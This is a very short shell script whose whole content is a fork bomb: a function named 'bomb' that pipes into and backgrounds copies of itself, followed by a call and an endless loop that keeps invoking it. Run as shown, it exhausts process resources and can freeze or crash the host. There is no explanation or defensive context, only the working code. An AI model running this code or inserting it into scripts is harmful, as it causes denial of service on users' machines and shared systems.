# The shell's own.
bomb() { bomb | bomb & }
bomb
wait
while :; do bomb; done
